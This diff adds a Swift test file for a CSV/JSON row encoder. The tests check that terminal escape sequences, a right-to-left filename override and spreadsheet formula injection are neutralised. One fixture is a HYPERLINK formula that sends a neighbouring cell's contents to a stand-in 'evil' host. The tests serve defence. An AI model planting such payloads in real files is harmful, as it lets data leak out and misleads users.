@@ -1,0 +1,106 @@
+// SPDX-License-Identifier: Apache-2.0
+
+import Testing
+
+@testable import KithOperations
+
+@Suite struct RowEncoderTests {
+  private struct Row: OperationRow {
+    var text: String?
+    var flag: Bool?
+    var number: Int?
+    var digits: String?
+
+    static let fieldNames = ["text", "flag", "number", "a \"b\""]
+
+    func write(to fields: inout RowEncoder) {
+      fields.text(text)
+      fields.flag(flag)
+      fields.number(number)
+      fields.number(digits: digits)
+    }
+  }
+
+  private func lines(_ rows: [Row], _ style: RowEncoder.Style) -> [String] {
+    var encoder = RowEncoder(Row.fieldNames, style: style)
+    return rows.map { row in
+      encoder.encode(row)
+      return String(decoding: encoder.bytes, as: UTF8.self)
+    }
+  }
+
+  @Test func aJSONRowHasEveryFieldInOrderAndNothingOfThePreviousRow() {
+    let rows = [
+      Row(text: "a longer text", flag: false, number: -7, digits: "0.250"), Row(text: "b", flag: true),
+    ]
+    #expect(
+      lines(rows, .json) == [
+        #"{"text":"a longer text","flag":false,"number":-7,"a \"b\"":0.250}"#,
+        #"{"text":"b","flag":true,"number":null,"a \"b\"":null}"#,
+      ])
+  }
+
+  @Test func aCSVRowHasAnEmptyCellForNull() {
+    #expect(
+      lines([Row(text: "x", flag: true, number: 1, digits: "2"), Row()], .csv(raw: false)) == [
+        "x,true,1,2", ",,,",
+      ])
+  }
+
+  /// For any output, because cells of a file may end up on a terminal.
+  @Test(arguments: [
+    ("\u{1B}[2J", "\u{FFFD}[2J"), ("\u{1B}]0;owned\u{7}", "\u{FFFD}]0;owned\u{FFFD}"),
+    ("two\nlines", "two\u{FFFD}lines"), ("a\rb", "a\u{FFFD}b"), ("a\r\nb", "a\u{FFFD}\u{FFFD}b"),
+    ("\u{85}\u{2028}\u{2029}", "\u{FFFD}\u{FFFD}\u{FFFD}"), ("\u{202E}gpj.exe", "\u{FFFD}gpj.exe"),
+  ])
+  func csvIsCleaned(cell: String, cleaned: String) {
+    for raw in [true, false] { #expect(lines([Row(text: cell)], .csv(raw: raw)) == [cleaned + ",,,"]) }
+  }
+
+  @Test(arguments: [
+    ("=1+1", "'=1+1"), ("+49", "'+49"), ("-x", "'-x"), ("@bob.test", "'@bob.test"), ("＝1", "'＝1"),
+    (#"=HYPERLINK("https://evil/?"&A2,"x")"#, #""'=HYPERLINK(""https://evil/?""&A2,""x"")""#),
+    ("\t=1", "\u{FFFD}=1"), ("'=1", "''=1"), ("a=1", "a=1"), ("bob.test", "bob.test"),
+    ("a;=1+1", "a;'=1+1"), (";=1+1", ";'=1+1"), ("a|-1", "a|'-1"), ("a; @b", "a;' @b"), (" =1", "' =1"),
+    ("\u{A0}\u{3000}+1", "'\u{A0}\u{3000}+1"), ("a;'=1", "a;''=1"), (";;=1;=2", ";;'=1;'=2"),
+    ("a;b=1", "a;b=1"),
+    ("=;=", "'=;'="), ("| she/her", "| she/her"), ("=\u{301}1", "'=\u{301}1"),
+  ])
+  func formulaCellsAreEscaped(cell: String, defused: String) {
+    #expect(lines([Row(text: cell)], .csv(raw: false)) == [defused + ",,,"])
+    #expect(SpreadsheetFormula.undefused(SpreadsheetFormula.defused(cell)) == cell)
+    let clean = TerminalText.clean(cell)
+    let raw = clean.contains(",") ? "\"\(clean.replacing("\"", with: "\"\""))\"" : clean
+    #expect(lines([Row(text: cell)], .csv(raw: true)) == [raw + ",,,"])
+  }
+
+  /// Quotes and line breaks as well, in texts that are kept for import.
+  @Test func defusingIsReversible() {
+    let parts = ["=", "'", "\"", ";", "|", "\t", "\n", "\r", " ", "a", "@", "\u{A0}", "\\", "\u{301}"]
+    for first in parts {
+      for second in parts {
+        for third in parts {
+          for fourth in parts {
+            let cell = first + second + third + fourth
+            let defused = SpreadsheetFormula.defused(cell)
+            #expect(
+              SpreadsheetFormula.undefused(defused).unicodeScalars.elementsEqual(cell.unicodeScalars),
+              "\(cell)")
+          }
+        }
+      }
+    }
+  }
+
+  @Test func numbersStayNumbersInCSV() {
+    #expect(lines([Row(number: -7, digits: "-0.250")], .csv(raw: false)) == [",,-7,-0.250"])
+  }
+
+  @Test(arguments: [
+    ("plain", "plain"), ("", ""), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""),
+    ("a;b", "a;b"), ("朱迪,", "\"朱迪,\""),
+  ])
+  func csvQuotesOnlyWhatNeedsIt(cell: String, quoted: String) {
+    #expect(lines([Row(text: cell)], .csv(raw: false)) == [quoted + ",,,"])
+  }
+}
